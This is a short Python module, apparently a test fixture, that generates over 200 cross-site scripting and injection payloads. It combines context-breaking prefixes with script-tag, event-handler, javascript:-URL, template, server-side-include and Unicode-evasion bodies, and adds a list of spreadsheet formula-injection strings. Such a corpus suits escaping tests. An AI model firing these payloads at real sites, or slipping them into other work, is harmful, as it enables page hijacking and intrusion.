"""Words with which people have tried to break pages: 200 and more payloads, made of few parts."""

from __future__ import annotations

from itertools import product

_OPENINGS = ("", '"', "'", "`", "-->", "</title>", "</textarea>", '">', "'>", "</svg>")
_BODIES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<style>@import 'http://x.example';</style>",
    "<form action=//x.example><button>x",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    " onmouseover=alert(1) x=",
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% raise %} %(name)s %s",
    "<b hx-get='/people/' hx-trigger=load>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ſcrıpt>alert(1)</ſcrıpt>",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001
    "<!--#exec cmd='ls'-->",
)
PAYLOADS = [f"{opening}{body}"[:190] for opening, body in product(_OPENINGS, _BODIES)]
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠x", '=HYPERLINK("http://x.example")']  # noqa: RUF001
